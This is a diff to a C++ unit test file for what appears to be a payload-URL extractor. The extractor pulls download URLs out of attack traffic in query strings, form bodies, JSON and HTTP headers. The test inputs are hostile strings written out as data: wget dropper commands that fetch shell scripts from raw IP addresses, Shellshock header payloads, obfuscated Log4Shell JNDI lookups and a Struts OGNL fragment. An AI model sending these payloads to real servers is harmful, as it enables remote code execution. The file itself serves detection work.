@@ -22,7 +22,7 @@ TEST(PayloadUrlsTest, EncodedPayloadsAreDecoded) {
               ElementsAre("http://45.33.32.156/x.sh"));
   EXPECT_THAT(findPayloadUrls("?c=wget%2520http%253A%252F%252Fdl.example.com%252Fm", 10),
               ElementsAre("http://dl.example.com/m"));
-  EXPECT_THAT(findPayloadUrls("?c=wget+http://dl.example.com/a+b", 10),
+  EXPECT_THAT(findPayloadUrls("c=wget+http://dl.example.com/a+b", 10, UrlSource::kForm),
               ElementsAre("http://dl.example.com/a"));
 }
 
@@ -47,8 +47,10 @@ TEST(PayloadUrlsTest, CredentialsInTheUrlAreDropped) {
 }
 
 TEST(PayloadUrlsTest, AbsoluteFormTargetIsNotAPayload) {
-  EXPECT_THAT(findPayloadUrls("http://proxy.example.com/", 10, true), IsEmpty());
-  EXPECT_THAT(findPayloadUrls("http://p.example.com/?u=http://x.example.com/a", 10, true),
+  EXPECT_THAT(findPayloadUrls("http://proxy.example.com/", 10, UrlSource::kRequestTarget),
+              IsEmpty());
+  EXPECT_THAT(findPayloadUrls("http://p.example.com/?u=http://x.example.com/a", 10,
+                              UrlSource::kRequestTarget),
               ElementsAre("http://x.example.com/a"));
 }
 
@@ -66,6 +68,51 @@ TEST(PayloadUrlsTest, NonPrintableBytesAreEncoded) {
               ElementsAre("http://dl.example.com/a%FF"));
   EXPECT_THAT(findPayloadUrls("wget http://[2001:DB8::1]/x", 10),
               ElementsAre("http://[2001:db8::1]/x"));
+}
+
+// '+' is a space only where the application form-decodes (a query, a form body), and only in
+// its one decoding: the dropper fetched "x86+arm.sh", not "x86".
+TEST(PayloadUrlsTest, APlusIsASpaceOnlyInTheFormDecodingItself) {
+  const char* kDelivered = "http://45.61.185.23/x86+arm.sh";
+  EXPECT_THAT(findPayloadUrls("/cgi-bin/x?cmd=wget%20http://45.61.185.23/x86%2Barm.sh", 10,
+                              UrlSource::kRequestTarget),
+              ElementsAre(kDelivered));
+  EXPECT_THAT(findPayloadUrls("cmd=wget+http://45.61.185.23/x86%2Barm.sh", 10, UrlSource::kForm),
+              ElementsAre(kDelivered));
+  EXPECT_THAT(
+      findPayloadUrls("cmd=wget%2520http://45.61.185.23/x86%252Barm.sh", 10, UrlSource::kForm),
+      ElementsAre(kDelivered));
+  EXPECT_THAT(findPayloadUrls("{\"c\": \"wget http://45.61.185.23/x86+arm.sh\"}", 10),
+              ElementsAre(kDelivered));
+  // In a path '+' is a plus; in the query after it, a space.
+  EXPECT_THAT(findPayloadUrls("/x/http://45.61.185.23/x86+arm.sh", 10, UrlSource::kRequestTarget),
+              ElementsAre(kDelivered));
+  EXPECT_THAT(
+      findPayloadUrls("/a+b?c=wget+http://dl.example.com/a+b", 10, UrlSource::kRequestTarget),
+      ElementsAre("http://dl.example.com/a"));
+}
+
+TEST(PayloadUrlsTest, AnIpv4MappedHostIsPlainIpv4) {
+  EXPECT_THAT(findPayloadUrls("${jndi:ldap://[::ffff:45.61.185.23]:1389/a}", 10),
+              ElementsAre("ldap://45.61.185.23:1389/a"));
+  EXPECT_THAT(findPayloadUrls("wget http://[::FFFF:2d3d:b917]/x", 10),
+              ElementsAre("http://45.61.185.23/x"));
+  EXPECT_THAT(findPayloadUrls("wget http://[2a02:C207::0:1]:8080/x", 10),
+              ElementsAre("http://[2a02:c207::1]:8080/x"));
+}
+
+TEST(PayloadUrlsTest, HeaderPayloadStartsAtACommandOrLookup) {
+  EXPECT_EQ(headerPayloadStart(
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+            std::string_view::npos);
+  EXPECT_EQ(headerPayloadStart("https://www.google.com/search?q=shop"), std::string_view::npos);
+  EXPECT_EQ(headerPayloadStart("Mozilla/5.0 () x"), std::string_view::npos);
+  EXPECT_EQ(headerPayloadStart("() { :; }; /bin/bash -c 'wget http://a.example.com/x'"), 0u);
+  EXPECT_EQ(headerPayloadStart("x(){ :;}; wget http://a.example.com/x"), 1u);
+  EXPECT_EQ(headerPayloadStart("() \t{ :; };"), 0u);
+  EXPECT_EQ(headerPayloadStart("Mozilla ${jndi:ldap://a.example.com/x}"), 8u);
+  EXPECT_EQ(headerPayloadStart("${${lower:j}ndi:ldap://a.example.com/x} () {"), 0u);
+  EXPECT_EQ(headerPayloadStart("%{(#_='multipart/form-data')}"), 0u);
 }
 
 TEST(PayloadUrlsTest, PercentDecode) {
